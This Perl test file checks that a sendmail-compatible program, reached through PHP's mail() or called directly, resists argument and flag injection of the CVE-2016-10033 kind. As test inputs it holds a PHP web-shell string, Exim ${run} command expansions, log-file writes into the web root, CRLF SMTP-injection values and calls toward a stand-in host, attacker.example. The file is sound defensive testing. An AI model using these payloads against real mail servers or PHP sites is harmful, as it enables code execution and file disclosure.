#!/usr/bin/perl
# Flags that an attacker smuggles in: by the fifth parameter of a real PHP's
# mail(), as in CVE-2016-10033 and its kin, and as arguments.  None of them may
# make the program write a file, run a command, show one, or talk to a host that
# is not configured; what is accepted has no effect, so that the mail goes where
# its To says.
#
# What is compared: the exit status; what arrived; that no file in the tree has
# come, gone or changed; that nobody connected to the attacker's host; that
# neither the password nor an attacker's or another's file is shown; and, where
# ptrace is permitted, that the program started nothing, opened nothing for
# writing but /dev/null, and connected to the smarthost and the log alone.
#
# Environment: BUILD (build), SENDMAIL (the program, $BUILD/sendmail),
# INTEROP_REQUIRED (if set, fail where the test would be skipped).

use strict;
use warnings;

use FindBin;
use File::Find ();
use IO::Socket::INET;
use MIME::Base64 qw(encode_base64);
use Time::HiRes ();
use lib $FindBin::Bin;
use RealCallers;

my $world = RealCallers->begin;
my $php = $world->php_program;
$world->conf(domain => '"example.com"');

# What the attacker has: a host, a directory that everybody can write to, and a
# site of which PHP can change every file.
my $marker = 'the attacker was here';
my @hosts = map { IO::Socket::INET->new(Listen => 5, LocalAddr => '127.0.0.66',
    LocalPort => $_, ReuseAddr => 1, Blocking => 0) or die "127.0.0.66: $@" }
    25, 465, 587;
$world->file('/etc/hosts', RealCallers::slurp($world->path('/etc/hosts')) .
    "127.0.0.66 attacker.example\n");
for my $place ('/tmp', '/var/www/html') {
	$world->file("$place/evil.conf", <<"END", 0600);
# $marker
smarthost "attacker.example" { tls = "none" }
log = "/var/www/html/log.php"
END
	chown 33, 33, $world->path("$place/evil.conf");
}
$world->file('/tmp/evil.cf', "$marker\nMprog, P=/bin/touch, A=touch /tmp/run\n");
$world->file('/var/www/html/index.php', "<?php // $marker\n");
symlink '/tmp/evil.conf', $world->path('/var/www/html/link.conf') or die;

my $trace = '%file,%process,connect,bind,listen';
my $message = "To: b\@example.net\nSubject: Subject\n\ntext\n";
my $text = "<?php system(\$_GET['c']); ?>\nMAIL FROM:<x\@attacker.example>\n" .
    "RCPT TO:<x\@attacker.example>\nDATA\n\nforged\n.\nQUIT\n";

# Every file in the tree that can be written, with what would show a change.
sub listing {
	my %seen;

	File::Find::find({ no_chdir => 1, wanted => sub {
		my @stat = Time::HiRes::lstat($_) or return;
		$seen{$_} = join ' ', @stat[2, 4, 5, 9], -d _ ? () : $stat[7];
	} }, map { $world->path($_) } qw(/etc /home /root /run /tmp /var));
	return \%seen;
}

# What the program did: { status, lines }; the calls of the system by the
# process that became it, and by those it started.
sub deeds {
	my ($run) = @_;
	my (%ours, @lines, $status);

	return undef if !$run->{calls};
	for (RealCallers::traced($run->{trace})) {
		my ($pid, $text) = /^(\d+) (.*)/;
		if (!$ours{$pid}) {
			$ours{$pid} = 1 if $text =~
			    m{^execve\("/usr/s?bin/(?:sendmail|mailq|newaliases)", .* = 0$};
			next;
		}
		$ours{$1} = 1 if $text =~ /^v?(?:fork|clone3?)\(.* = (\d+)$/;
		$status //= $1 if $text =~ /^exit_group\((\d+)\)/;
		push @lines, $text;
	}
	return { status => $status, lines => \@lines };
}

# The deeds that nothing may lead to.
sub forbidden {
	my ($deeds) = @_;

	return grep {
		/^exec/ || /^(?:bind|listen)\(/ && !/AF_NETLINK/ ||
		/^(?:creat|unlink|rename|link|symlink|mkdir|rmdir|mknod|truncate|f?chmod|[fl]?chown|utime|mount|umount|chroot)/ ||
		/^open/ && /O_WRONLY|O_RDWR|O_CREAT|O_TRUNC|O_APPEND/ &&
		    !m{"/dev/null", O_RDWR(?:\|O_\w+)*\) } ||
		/^connect/ && !/sin_port=htons\(587\), sin_addr=inet_addr\("127\.0\.0\.1"\)/ &&
		    !m{sun_path="/(?:dev/log|var/run/nscd/socket)"}
	} @{$deeds->{lines}};
}

# One attack. status: what the program ends with, or several; sent: whether the
# mail arrives (if the status is 0); to, sender, fields: if it is not as without
# the attack; says: a pattern for what is printed.
sub attack {
	my ($name, %o) = @_;
	my $status = $o{status} // 0;
	my @statuses = ref $status ? @$status : $status;

	subtest $name => sub {
		my $before = grep { !$_ } Test::More->builder->summary;
		my $listing = listing();
		my $run = $world->call(trace => $trace, %o);
		my $deeds = deeds($run);
		my ($logged) = $run->{log} =~ /\bexit=(\d+)/;
		my $got = $deeds ? $deeds->{status} : $logged;

		note 'status ' . ($got // 'unknown') . '; caller: ' .
		    "$run->{out} $run->{err}" =~ s/\n/\\n/gr;
		SKIP: {
			skip 'ptrace is not permitted', 1 if !$deeds && !defined $got;
			ok((grep { ($got // '') eq $_ } @statuses), 'exit status') ||
			    diag('got ' . ($got // 'none') . ", expected @statuses");
		}
		is_deeply(listing(), $listing, 'no file has changed');
		is(join("\n", forbidden($deeds)), '', 'nothing forbidden was done')
		    if $deeds;
		is(scalar(grep { $_->accept } @hosts), 0,
		    'the attacker\'s host is not called');
		my $shown = "$run->{out}$run->{err}$run->{log}" .
		    join '', map { $_->{bytes} } @{$run->{arrived}};
		my $secret = RealCallers::PASSWORD;
		for my $secret ($secret, encode_base64("\0" . RealCallers::USER . "\0$secret", ''),
		    $marker, 'root:x:', 'root:*') {
			unlike($shown, qr/\Q$secret\E/, 'not shown: ' . $secret =~ s/\0/-/gr);
		}
		like($run->{out} . $run->{err}, $o{says}, 'what is printed') if $o{says};
		my $sent = $o{sent} // ($statuses[0] eq 0);
		is(scalar @{$run->{arrived}}, $sent ? 1 : 0, $sent ?
		    'the mail arrived' : 'nothing arrived');
		for my $mail (@{$run->{arrived}}) {
			my ($fields) = RealCallers::parse($mail->{bytes});
			is("@{$mail->{to}}", $o{to} // 'b@example.net', 'where its To says');
			is($mail->{sender}, $o{sender} // 'www-data@example.com', 'from whom');
			is("@{$fields->{subject}}", 'Subject', 'Subject');
			is(join(',', sort keys %$fields), $o{fields} //
			    'date,from,message-id,subject,to', 'fields');
		}
		is($run->{violations}, '', 'the smarthost saw no violation');
		is($run->{left}, 0, 'no process is left');
		diag("$run->{out}$run->{err}$run->{log}")
		    if (grep { !$_ } Test::More->builder->summary) > $before;
	};
}

# The fifth parameter of mail().
sub fifth {
	my ($parameter, %o) = @_;
	my $code = 'exit(mail("b@example.net", "Subject", ' .
	    "stream_get_contents(STDIN), '', stripcslashes(\$argv[1])) ? 0 : 9);";
	my %php = $world->php($code);

	$php{command} = [@{$php{command}}, '--', $parameter =~ s/\\/\\\\/gr];
	attack("mail(): $parameter", %php, input => $text, %o);
}

# Without any: what the others are compared with.
fifth('');

# Files: a log, a queue, an alias file, a configuration.
my $x = '/var/www/html/x.php';
fifth($_) for "-X$x", "-X $x", "-OQueueDirectory=/tmp -X$x", "-oQ/tmp/ -X$x",
    '-OQueueDirectory=/tmp', '-O QueueDirectory=/tmp', '-oQ/tmp',
    "-OLogFile=$x", "-OStatusFile=$x", "-OAliasFile=$x", "-oA$x",
    "-OHelpFile=/etc/passwd", '-oH/etc/passwd', "-oS$x", "-OForwardPath=$x",
    "-OPidFile=$x", "-OTrustStickyBit=1", "-OControlSocketName=/tmp/socket",
    '-OErrorHeader=/etc/passwd', '-OUserDatabaseSpec=/etc/passwd',
    '-OServiceSwitchFile=/tmp/evil.cf', '-OSafeFileEnvironment=/',
    '-ORunAsUser=root', '-oX', '-oM{x}/tmp', "-D$x", "-D $x", '-d99.100',
    "-d0-99.127 -D$x", "-L$x", "-L sendmail", "-L 'x[1]: status=sent'";

# Configurations: none of them, and nothing of what is in them is shown.
fifth($_, status => 78) for map { ("-C$_", "-C $_") } '/etc/passwd',
    '/etc/sendmail.password', '/tmp/evil.conf', '/var/www/html/evil.conf',
    '/var/www/html/link.conf', '/etc/../tmp/evil.conf', '/tmp/evil.cf',
    '/proc/self/environ', '/dev/stdin', '/etc/shadow', '/nonexistent', 'evil.conf',
    '/etc';
fifth("-C/tmp/evil.conf -X$x -OQueueDirectory=/tmp", status => 78);
fifth('-C/etc/sendmail.conf');
fifth('-C -n');

# Commands; Exim's, with a slash that PHP's quoting has no hold on.
my $slash = '${substr{0}{1}{$spool_directory}}';
fifth($_, status => 64, sent => 0) for '-be', '-be${run{/usr/bin/touch /tmp/run}}',
    "-be \${run{${slash}usr${slash}bin${slash}touch ${slash}tmp${slash}run}}",
    '-bt', '-bP', '-bP spool_directory', '-bh', '-bH', '-bd', '-bD', '-bdX', '-bV', '-bw',
    '-bF', '-bz', '-b', "-bX$x", '-bd -OPidFile=/tmp/pid', '-bd -q1s', '-H',
    '-Htouch /tmp/run', '-H"exec openssl s_client -connect attacker.example:25"',
    '-S attacker.example', '-Sattacker.example:25', '-w 1', '-a user', '-au -ap',
    '-E', '-k', '-K', '-l', '-P', '-u', '-W', '-y', '-z', '-Z', '-0', '-?';
fifth($_) for '-Mfx', '-MGx', '-M rm', '-OMustQuoteChars=x', '-OProcessTitlePrefix=x',
    '-ODaemonPortOptions=Name=x', '-OClientPortOptions=Addr=127.0.0.66',
    '-OFallbackMXhost=attacker.example', '-OSmartHost=attacker.example',
    '-OMailHubName=attacker.example', '-oR', '-oSattacker.example',
    '-oMrSMTP', '-oMsattacker.example', '-p ESMTP:attacker.example',
    '-pSMTP', '-Ac', '-Am', '-A c', '-I', '-I -n', '-G', '-U', '-n', '-m',
    '-om', '-oo', '-h 5', '-h5', '-s', '-T', '-c', '-J', '-x', '-Q', '-Qreason',
    '-odi', '-odb', '-odq', '-odd', '-ODeliveryMode=q', '-ODeliveryMode=b',
    '-oep', '-oeq', '-oem', '-oew', '-oee', '-em', '-eq', '-e', '-o', '-oi',
    '-oitrue', '-N never', '-N success,failure', '-R hdrs', '-V id', '-B 8BITMIME',
    '-B 7BIT', '-tttiii', '-t -i';

# A value that is none: what follows is a recipient, as with Sendmail.
fifth($_->[0], to => "$_->[1]\@example.com b\@example.net") for ['-oQ /tmp', '/tmp'],
    ['-MC 1', 1], ['-Mrm 1', 1], ['-oMs attacker.example', 'attacker.example'];

# The queue, and other modes.
fifth($_, status => 64, sent => 0) for '-q', '-qf', '-q1s', '-q15m', '-qIx',
    '-qI x', '-qRx', '-qSx', '-qGx', '-qp1s', '-q!Ix', '-qL', '-i -q', '-odq -q',
    '-v -q', '-bm -q', '-bp -q', '-qf -bp';
fifth('-bm');
fifth($_, sent => 0) for '-bp', '-bi', '-bv';
# The message is no dialogue; a header line ends it.
fifth($_, status => 64) for '-bs', '-bs -v';

# Long flags act at the head of the line only.
fifth($_, status => 64, sent => 0) for qw(--check --explain --version --help --json
    --queue-remove=x --queue-show --queue-show=x --queue-hold --queue-hold=x
    --queue-release --queue-release=x --older-than=1d --older-than --queue-run
    --config=/tmp/evil.conf --unknown --- --=x), '--check --json',
    '--queue-remove x', '--queue-show x', '--older-than 1s',
    '--check -C/tmp/evil.conf', '--smarthost attacker.example',
    '--explain=67', '--queue-show --json';

# The sender and the name are never flags, and are not expanded.
fifth('-f bounce@example.com -X' . $x, sender => 'bounce@example.com');
fifth('-fx@attacker.example -oQ/tmp -X' . $x, sender => 'x@attacker.example');
fifth('-v', says => qr/AUTH PLAIN/);
fifth("-f '-X$x'", sender => "-X$x\@example.com");
fifth('-f "x -X/var/www/html/x.php y"@example.com', status => 64);
fifth("-f '`touch /tmp/run`\@example.com'", status => 64);
fifth("-F '`touch /tmp/run`\$(touch /tmp/run)'");
fifth("-F '-X$x'");

# Recipients that are none. (Another's address is what the parameter may add.)
fifth('c@example.net', to => 'b@example.net c@example.net');
fifth("-- -X$x", to => "-X$x\@example.com b\@example.net");
fifth('-- --check', to => '--check@example.com b@example.net');

# As arguments, which may hold anything; also of root's.
sub direct {
	my ($args, %o) = @_;
	my $name = join ' ', map { s/([^ -~])/sprintf '\\x%02x', ord $1/ger } @$args;
	my $user = $o{user} // 'www-data';
	my $program = delete $o{program} // '/usr/sbin/sendmail';

	attack("$program, $user: $name", user => $user, command => [$program, @$args],
	    input => $message, sender => "$user\@example.com", %o);
}

my $crlf = "\r\nRCPT TO:<x\@attacker.example>";
direct(['-t', '-i']);
direct(['-t', '-i', '-f', "a\@example.com>$crlf"], status => 64);
direct(['-t', '-i', '-f', "a\@example.com\nX-Two: 2"], status => 64);
direct(['-t', '-i', '-F', "X\r\nBcc: x\@attacker.example\r\n\r\nforged"]);
direct(['-t', '-i', $_->[0], "$_->[1]$crlf"], status => 64) for ['-V', 'id'],
    ['-N', 'never'], ['-R', 'full'], ['-B', '8BITMIME'];
direct(['-t', '-i', $_]) for "-L\nsendmail[1]: status=sent", "-L%s%s%n",
    "-Orequiretls=no$crlf", "-p SMTP$crlf", "-h1$crlf", "-X$x\n", "-D$x$crlf", "-d$crlf";
direct(['-t', '-i', "x\@attacker.example>$crlf"], status => 64);
direct(['-t', '-i', "<x\@example.net> SIZE=1$crlf"], status => 64);
direct(['-t', '-i', $_], status => 64) for '|/usr/bin/touch /tmp/run',
    ':include:/etc/passwd', 'b@example.net@attacker.example', '<>', '-i-X';
direct(['-i', $_], status => 64) for '', ',';
# Names that mean a command or a file elsewhere are names; hosts in an address
# are the smarthost's matter.
direct(['-i', $_], to => "$_\@example.com") for '"|/usr/bin/touch /tmp/run"', $x,
    '"/tmp/x y"', '-', 'attacker.example!b';
direct(['-i', $_], to => $_) for 'b@[127.0.0.66]', 'b%attacker.example@example.net';
direct(['-i', '@attacker.example:b@example.net']);
direct(['-t', '-i'], program => "/usr/bin/$_", sent => 0) for qw(mailq newaliases);

# As root, who could write anywhere.
direct(['-t', '-i', $_], user => 'root') for "-X$x", "-D$x", '-oQ/tmp',
    '-OQueueDirectory=/tmp', "-OPidFile=$x", "-oA$x", '-odq', '-L/etc/x';
direct(['-t', '-i', $_], user => 'root', status => 78) for '-C/tmp/evil.cf',
    '-C/tmp/evil.conf', '-C/var/www/html/link.conf', '-C/etc/shadow', '-C/dev/zero',
    '-C/etc/sendmail.password';
direct(['-t', '-i', $_], user => 'root', status => 64) for '-bd', '-bD', '-q1s',
    '--queue-remove=x', '--check', '-be${run{/usr/bin/touch /tmp/run}}';

done_testing;
